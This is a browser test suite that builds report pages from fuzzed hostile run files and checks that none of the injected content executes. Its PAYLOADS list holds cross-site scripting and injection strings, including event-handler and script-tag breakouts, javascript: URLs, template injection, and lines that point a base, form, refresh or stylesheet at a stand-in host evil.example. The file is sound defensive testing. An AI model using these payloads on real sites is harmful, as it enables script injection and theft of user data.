"""Pages built of hostile run files in a real browser: nothing of theirs ever runs."""

from __future__ import annotations

import copy
import random
from pathlib import Path

import pytest

from suites.selfcheck import synthetic
from suites.selfcheck.page.pages import Reader, build, watched
from suites.selfcheck.page.test_axe import VIEWS
from suites.selfcheck.record import test_fuzz_runfile

GUARD = Path(__file__).with_name("guard.js").read_text("utf-8")


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """Build a page with few clauses."""
    folder = tmp_path_factory.mktemp("small")
    table = synthetic.clauses(6, seed=5)
    synthetic.write_verdicts(folder / "verdicts", table, ("2.0.0", "2.14.0", "2.15.0"))
    return build(folder, table)


def guarded(page, url, address=""):
    page.add_init_script(GUARD)
    return Reader(page, url).open(address).page


def test_a_text_that_would_take_long_to_colour_stays_plain(reader):
    text = '"\\' * 100_000
    assert reader.page.evaluate("coloured", text) == [text]


PAYLOADS = (
    "</script><script>hit()</script>",
    "<img src=x onerror=hit()>",
    '" onmouseover="hit()" autofocus onfocus="hit()',
    "' onload='hit()",
    "<svg onload=hit()><animate onbegin=hit()>",
    "<!--<script>hit()",
    "--><script>hit()</script>",
    "</style><style>@import 'https://evil.example/x.css'</style>",
    "</title></textarea><iframe srcdoc='<script>parent.hit()</script>'>",
    "javascript:hit()",
    "data:text/html,<script>parent.hit()</script>",
    "https://evil.example/\"><b onclick=hit()>",
    "{{ cycler.__init__.__globals__ }}{% raw %}{# x",
    "${hit()}`+hit()+`",
    "&lt;script&gt;hit()&lt;/script&gt;&#x3c;img src=x onerror=hit()&#x3e;",
    "<details open ontoggle=hit()><summary>x",
    "<base href=https://evil.example/><form action=https://evil.example/><button>x",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "]]><script>hit()</script>",
    "\u2028hit()\u2029\u202e<b>\u0000\x1b[31m",
    "__proto__",
)  # fmt: skip


def hostile_lines(table, seed):
    """Return the lines of a run in which every free string ends with something hostile."""
    rng = random.Random(seed)
    lines = copy.deepcopy(synthetic.run_lines(table, "2.16.0"))
    lines[0]["torch"] = "2.16.0a0+git1a2b3c4"
    for line in lines:
        if line["type"] == "cell":
            line.update(verdict="deviates", declared=rng.random() < 0.5, refuted=[], evidence=synthetic.evidence())
    lines[-1] = synthetic.footer([line for line in lines if line["type"] == "cell"])
    tails = {}
    return [
        test_fuzz_runfile.hostile(line, tail=lambda text: tails.setdefault(text, rng.choice(PAYLOADS)))
        for line in lines
    ]


@pytest.mark.parametrize("seed", range(2))
def test_a_page_built_of_a_hostile_run_runs_nothing_of_it(browser, built, tmp_path, seed):
    table = synthetic.clauses(8, seed=seed, claims=2)
    lines = hostile_lines(table, seed)
    synthetic.write_verdicts(tmp_path / "verdicts", lines[0]["clauses"], ("2.14.0", "2.15.0"))
    made = build(tmp_path, table, synthetic.write_lines(tmp_path / "run.jsonl", lines))
    with watched(browser) as page:
        wanted = guarded(page, built.url).evaluate("guard.risky(document)")
        shown = ""
        for address in [*VIEWS[:-1], *(f"#{name}" for name in table)]:
            Reader(page, made.url).open(address)
            page.evaluate("guard.open(document)")
            shown += page.evaluate("document.body.textContent")
            assert page.evaluate("guard.risky(document)") == wanted
            assert page.evaluate("guard.wrong(document)") == []
            assert page.evaluate("guard.hits") == []
        for clause in lines[0]["clauses"].values():
            assert clause["says"].replace("\0", "") in shown  # which no parser of HTML keeps
            assert clause["code"].partition("\n)\n")[2] in shown  # what the mark says is shown elsewhere


@pytest.mark.parametrize(
    "markup", [PAYLOADS[1], PAYLOADS[4], "<details open ontoggle=hit()>", "<a href=javascript:hit()>x</a>"]
)
@pytest.mark.parametrize("bypass", [False, True])
def test_the_guard_sees_what_would_run(browser, small, markup, bypass):
    """Markup that became part of the page is found; a script that the policy stopped is noted, and one that ran.

    The policy may stop an image too, before or after the script that the image would have run.
    """
    context = browser.new_context(bypass_csp=bypass)
    page = guarded(context.new_page(), small.url, "#rely")
    page.evaluate(
        "markup => { byId('rely-found').innerHTML = markup; byId('rely-found').querySelector('a')?.click(); }", markup
    )
    page.wait_for_function(
        "begin => guard.hits.some((hit) => hit.startsWith(begin))", arg="hit called" if bypass else "script-src"
    )
    assert bypass or "hit called" not in page.evaluate("guard.hits")
    assert page.evaluate("[...guard.risky(byId('rely-found')), ...guard.wrong(byId('rely-found'))]") != []
    context.close()
